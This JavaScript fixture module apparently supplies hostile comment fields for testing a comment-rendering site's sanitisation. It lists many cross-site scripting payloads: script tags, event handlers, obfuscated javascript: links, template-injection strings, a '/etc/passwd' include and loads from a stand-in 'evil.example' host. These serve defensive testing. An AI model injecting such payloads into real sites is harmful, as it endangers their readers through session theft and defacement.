/*
 * What somebody may write into every field of a comment to break a page, or those who read it. Each
 * payload that could run calls probe(). It holds no test itself.
 */
import { comment } from './reading-site.js';

/**
 * @typedef {object} Hostile
 * @property {string} what
 * @property {import('./reading-site.js').Comment} comment
 */

const ZALGO =
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d';

/** The text of a comment; none of it is Markdown that anything may come of. */
const TEXTS = {
  'a script': '<script>probe()</script>',
  'a script in capitals': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'a script that was cut in two': '<scr<script>ipt>probe()</scr</script>ipt>',
  'an image with a handler': '<img src=x onerror=probe()>',
  'an image of another server': '<img src="https://evil.example/pixel.gif">',
  'an svg with a handler': '<svg/onload=probe()>',
  'an svg with a script': '<svg><script>probe()</script></svg>',
  'a frame': '<iframe src="javascript:probe()" srcdoc="<script>probe()</script>"></iframe>',
  'an object': '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  'a form that clobbers': '<form id=stacosys><input name="author"><input name="elements"></form>',
  'a base': '<base href="https://evil.example/">',
  'a style': '<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
  'a meta': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'the end of a template': '</template><script>probe()</script>',
  'the end of everything': '</p></div></li></ol></section></body></html><script>probe()</script>',
  'a comment of HTML': '--><script>probe()</script><!--',
  CDATA: '<![CDATA[<script>probe()</script>]]>',
  mathematics: '<math><mtext><table><mglyph><style><img src=x onerror=probe()>',
  'a handler that starts itself': '<details open ontoggle=probe()><video autoplay onplay=probe()>',
  entities: '&lt;script&gt;probe()&lt;/script&gt; &#60;img src=x onerror=probe()&#62; &amp;lt;',
  'a shortcode': '{{< figure src="x" >}} {{% include "/etc/passwd" %}}',
  'a template': '{{ .Site.Params }} {{ partial "x" . }} {{- "x" | safeHTML -}}',
  'a template of others': '${probe()} #{probe()} <%= probe() %> {{constructor.constructor("probe()")()}}',
  'a link to a script': '[click](javascript:probe())',
  'a link to a SCRIPT': '[click](JaVaScRiPt:probe())',
  'a link with a tab': '[click](java\tscript:probe())',
  'a link with a line end': '[click](java\nscript:probe())',
  'a link with an entity': '[click](javascript&colon;probe()) [click](&#106;avascript:probe())',
  'a link with a NUL': '[click](java\0script:probe()) [click](\0javascript:probe())',
  'a link with Unicode blanks': '[click](\u2003javascript:probe()) [click](\u00a0javascript:probe())',
  'a link with a control character': '[click](\u0001javascript:probe())',
  'a link with data': '[click](data:text/html;base64,PHNjcmlwdD5wcm9iZSgpPC9zY3JpcHQ+)',
  'a link with VBScript': '[click](vbscript:probe())',
  'a link with a blob': '[click](blob:https://evil.example/x) [click](filesystem:https://evil.example/x)',
  'a link in brackets': '<javascript:probe()> [click](<javascript:probe()>)',
  'a link by reference': '[click][1]\n\n[1]: javascript:probe()',
  'a link with a title that breaks out': '[click](javascript:probe() "onmouseover=probe()")',
  'an image of a script': '![x](javascript:probe()) ![x](data:image/svg+xml,<svg/onload=probe()>)',
  'a link without a scheme': '[click](//evil.example) [click](evil.example) [click](#author)',
  'an escape that escapes nothing': '\u005b\u200bclick](javascript:probe())',
  'a right-to-left override': 'user\u202egnp.exe\u202c and \u2066isolated\u2069 \u200f\u200e',
  'overrides that nobody ends': '\u202e\u202e\u202e\u2067\u2067 reversed for ever',
  zalgo: ZALGO.repeat(40),
  emoji: '👩‍👩‍👧‍👦🏳️‍🌈🇫🇷\u{1f9d1}\u{1f3fd}\u200d\u{1f4bb}'.repeat(20),
  'a NUL': 'before\0after',
  'control characters': 'a\u0001b\u0007c\u001bd\u007fe\u0085f',
  'half a character': '\ud83d and \ude00',
  'no character at all': 'a\ufffe\uffffb',
  'separators of lines': 'a\u2028b\u2029c',
  'blanks that one does not see': '\u200b\ufeff\u2060\u00ad\u180e.',
  'names of prototypes': '__proto__ constructor prototype hasOwnProperty toString',
  'a long word': 'w'.repeat(600),
  'a long word in code': `\`${'c'.repeat(600)}\``,
  'a long line of code': `\`\`\`\n${'code '.repeat(200)}\n\`\`\``,
  'quotes in quotes': `${'> '.repeat(60)}deep`,
  'lists in lists': Array.from({ length: 30 }, (_, depth) => `${'  '.repeat(depth)}- item`).join('\n'),
  'lists in lists on a line': `${'- '.repeat(60)}deep`,
  'lists and quotes in turn': `${'> - '.repeat(30)}deep`,
  'headings without end': `${'#'.repeat(100)} loud`,
  'marks without end': '*_'.repeat(300) + 'x',
  'brackets without end': '['.repeat(300) + '!['.repeat(100),
  'many lines': 'line\n\n'.repeat(20) + '\n'.repeat(300) + 'end',
};

/** Names of people. */
const NAMES = [
  '<script>probe()</script>',
  '<img src=x onerror=probe()>',
  '"><svg onload=probe()>',
  "' onmouseover='probe()",
  '</a></template><script>probe()</script>',
  '{{ .Site }}{{< x >}}',
  '__proto__',
  'constructor',
  'author',
  '\u202eadmin',
  '\u2067\u202e',
  '\0',
  '\ud83d',
  '',
  ' ',
  '👩‍🌾'.repeat(40),
  ZALGO.repeat(5),
  'n'.repeat(255),
  'm m '.repeat(60),
];

/** Sites of people: true where it is an address of the web, however odd. */
export const SITES = {
  'javascript:probe()': false,
  'JAVASCRIPT:probe()': false,
  ' javascript:probe()': false,
  '\tjavascript:probe()': false,
  'java\tscript:probe()': false,
  'java\nscript:probe()': false,
  'javascript&colon;probe()': false,
  '\0javascript:probe()': false,
  '\u2003javascript:probe()': false,
  'javascript://https://wren.example/%0aprobe()': false,
  'javascript:probe()//\nhttps://wren.example/': false,
  'data:text/html,<script>probe()</script>': false,
  'vbscript:probe()': false,
  'blob:https://evil.example/1': false,
  'https:javascript:probe()': false,
  'http:/\\evil.example': false,
  __proto__: false,
  'https://"onmouseover="probe()': true,
  'https://evil.example/"><script>probe()</script>': true,
  'https://evil.example/\u202egnp.exe': true,
  'https://': true,
  'http://[': true,
  'http://evil.example/"onfocus="probe()': true,
  'https://a b c/': true,
  [`https://evil.example/${'s'.repeat(4000)}`]: true,
};

/** What may stand where the hash of an e-mail address should. */
const AVATARS = [
  '"><script>probe()</script>',
  'javascript:probe()',
  '//evil.example/x.png',
  '../../../x',
  '?d=https://evil.example/x.png&',
  '#',
  '\0',
  '__proto__',
  'a'.repeat(4000),
];

/**
 * @param {string} what
 * @param {Partial<import('./reading-site.js').Comment>} fields
 * @returns {Hostile}
 */
const hostile = (what, fields) => ({ what, comment: comment(fields) });

/** @type {Hostile[]} each with one field that is hostile */
export const HOSTILE = [
  ...Object.entries(TEXTS).map(([what, content]) => hostile(what, { content })),
  ...NAMES.map((author) => hostile(`the name ${author}`, { author })),
  ...Object.keys(SITES).map((site) => hostile(`the site ${site}`, { site })),
  ...AVATARS.map((avatar) => hostile(`the avatar ${avatar}`, { avatar })),
].map((one, index) => ({ ...one, comment: { ...one.comment, date: minute(index) } }));

/** Urls under which comments of /article/ may lie, as anybody may have sent them. */
export const URLS = [
  '/article/',
  'article',
  '/article/?<script>probe()</script>',
  '/article/#"><img src=x onerror=probe()>',
  "/article/?' onmouseover='probe()",
  '/article/?"onfocus="probe()"autofocus tabindex="1',
  '/article/?</section><script>probe()</script>',
  '/article/?</template></noscript><svg/onload=probe()>',
  '/article/?{{ .Site }}{{< x >}}{{% y %}}{{- printf "%s" 1 -}}',
  '/article/?{{',
  '/article/?a=1&b=2&url=/other/&amp;&lt;&#34;',
  '/article/? https://evil.example/x ',
  '/article/?\thttps://evil.example/x\r\n\u2028',
  'javascript://evil.example/article/',
  'data://text/article/',
  'https://evil.example/article/',
  'HTTPS://user:word@evil.example:99999/article/#x',
  '//article//',
  '/article/index.html',
  '/%61rticle/',
  '/article/?%',
  '/article/?%zz%00%ff%22%3e',
  '/article/?+ +',
  '/article/?\u202egnp\u2066',
  '/article/?😀\ufffd\ufeff',
  '/article/?__proto__',
  '/article/#constructor',
  '/article/?\\u0022\\x3c\\',
  '/article/?`${probe()}`',
  `/article/?${'q'.repeat(4000)}`,
];

/** @param {number} index */
function minute(index) {
  const digits = (/** @type {number} */ number) => String(number).padStart(2, '0');
  return `2024-01-02 ${digits(Math.floor(index / 60))}:${digits(index % 60)}:00`;
}
